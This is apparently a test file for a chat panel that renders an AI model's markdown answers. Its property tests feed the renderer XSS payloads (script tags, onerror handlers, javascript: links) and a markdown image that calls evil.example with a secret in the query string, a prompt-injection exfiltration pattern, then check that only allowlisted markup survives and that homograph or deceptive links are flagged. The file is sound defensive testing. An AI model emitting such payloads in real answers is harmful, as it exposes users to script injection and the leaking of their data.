import * as fc from 'fast-check';
import { parseHTML } from 'linkedom';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test, vi } from 'vitest';
import { AnswerText } from '@/components/panel/answer-text';
import { createJobText } from '@/components/panel/job-text';
import { shownLink } from '@/components/panel/markdown-tree';
import { loadMarkdown } from '@/utils/stream/markdown-parser';

vi.mock(import('@/utils/platform/i18n'), () => ({ t: (key: string) => key, tDynamic: (key: string) => key, uiLanguage: () => 'en' }));

const makeStream = await loadMarkdown();

function drawn(markdown: string, live = false): HTMLElement {
  const text = createJobText();
  text.settle(markdown, live);
  text.draw(makeStream);
  return parseHTML(`<html><body><main>${renderToStaticMarkup(<AnswerText text={text} />)}</main></body></html>`).document.querySelector(
    'main',
  ) as HTMLElement;
}
const tags = (element: HTMLElement) => [...element.querySelectorAll('*')].map(({ localName }) => localName);

const ELEMENTS = new Set(
  'div p h2 h3 h4 h5 h6 ul ol li blockquote hr pre code section table thead tbody tr th td em strong s br button span svg path'.split(' '),
);
const ATTRIBUTES = new Set(
  'class dir role start type title data-host data-language aria-label aria-hidden tabindex width height viewBox fill stroke stroke-width d'.split(
    ' ',
  ),
);

/** What a hostile page may make a model say. */
const hostile = fc.constantFrom(
  ...[
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<iframe srcdoc="<script>1</script>">',
    '<style>*{}</style>',
    '<form action=//e>',
  ],
  ...[
    '[x](javascript:alert(1))',
    '[x](data:text/html,1)',
    '[x](vbscript:1)',
    '[x](chrome-extension://a/b)',
    '[x](view-source:http://a)',
    '[x](blob:http://a)',
  ],
  ...[
    '![x](https://evil.example/p.png?d=secret)',
    '[![x](https://evil.example/p.png)](https://a.example)',
    '[x](intent://a#Intent;end)',
    '[x](file:///etc)',
  ],
  ...[
    '<https://a.example/<script>>',
    '[a]: javascript:alert(1)\n\n[a]',
    '`<b>`',
    '```html\n<script>1</script>\n```',
    '&lt;script&gt;',
    '<a href="javascript:1">x</a>',
  ],
  ...[
    '# T {#id .class onclick=1}',
    '| <img onerror=1> |\n|---|\n| [x](javascript:1) |',
    '- a\n  - b\n    - c',
    '> q',
    'words ',
    '\n\n',
    '**',
    '_',
  ],
);

describe('an answer on the screen', () => {
  test('consists of elements and attributes from a short list, whatever the model says', () => {
    fc.assert(
      fc.property(fc.array(hostile, { maxLength: 12 }), fc.boolean(), (parts, live) => {
        const element = drawn(parts.join(''), live);
        for (const child of element.querySelectorAll('*')) {
          expect(ELEMENTS).toContain(child.localName);
          for (const { name } of child.attributes) expect(ATTRIBUTES).toContain(name);
        }
      }),
      { numRuns: 500 },
    );
  });

  test('shows headings, lists, tables, quotes and code as what they are', () => {
    const element = drawn(
      '# One\n\n1. first\n2. second\n   - inner\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n> said\n\n```ts\nlet x;\n```\n\n---\n',
    );
    expect(tags(element)).toEqual(expect.arrayContaining(['h2', 'ol', 'ul', 'table', 'th', 'td', 'blockquote', 'pre', 'hr']));
    expect(element.querySelector('th')?.className).toBe('right');
    expect(element.querySelector('pre')?.textContent).toBe('let x;');
    expect(element.querySelector('.code')?.getAttribute('data-language')).toBe('ts');
  });

  test("is the answer's text and nothing else: host names, buttons and caret add no words", () => {
    const element = drawn('A [link](https://a.example/x) and ![a chart](https://b.example/y) and `code`.\n\n```\nlines\n```', true);
    expect(element.textContent).toBe('A link and a chart and code.lines');
    expect(element.querySelector('button.link')?.getAttribute('data-host')).toBe('a.example');
    expect(element.querySelectorAll('.caret')).toHaveLength(1);
  });

  test('keeps the outline whole: no heading is more than one level below the one before', () => {
    const levels = tags(drawn('#### Deep\n\n## Up\n\n- a\n\n#### Deeper\n\n# Top\n\n### Third')).filter((tag) => /^h\d$/.test(tag));
    expect(levels).toEqual(['h2', 'h3', 'h4', 'h2', 'h3']);
  });

  test('ends with a caret where the words come, in the last item or cell, and has none at its end', () => {
    expect(drawn('- one\n- two\n  - three', true).querySelector('li li .caret')).toBeTruthy();
    expect(drawn('- one\n- two').querySelector('.caret')).toBeNull();
  });

  test('shows text beyond the limit as it stands', () => {
    const element = drawn(`${'word '.repeat(50_000)}\n\n**bold**`);
    expect(element.querySelector('.unparsed:last-child')?.textContent).toContain('**bold**');
    expect(element.querySelector('strong')).toBeNull();
  });
});

describe('a link', () => {
  test('shows its host in ASCII, and is open to http, https and mail alone', () => {
    expect(shownLink('https://аpple.com/login', 'log in')?.host).toBe('xn--pple-43d.com');
    expect(shownLink('mailto:a@b.example', 'write')).toEqual({ host: 'a@b.example', doubtful: false });
    for (const href of [
      'javascript:alert(1)',
      'data:text/html,1',
      'file:///x',
      'chrome-extension://a/b',
      'blob:https://a',
      '/relative',
      '',
    ]) {
      expect(shownLink(href, 'x')).toBeUndefined();
    }
  });

  test('is doubtful when its words name another host or much data goes along', () => {
    expect(shownLink('https://evil.example/', 'www.bank.example')?.doubtful).toBe(true);
    expect(shownLink('https://www.bank.example/', 'bank.example')?.doubtful).toBe(false);
    expect(shownLink(`https://a.example/?d=${'x'.repeat(80)}`, 'more')?.doubtful).toBe(true);
    expect(shownLink('https://a.example/?q=short', 'more')?.doubtful).toBe(false);
  });
});
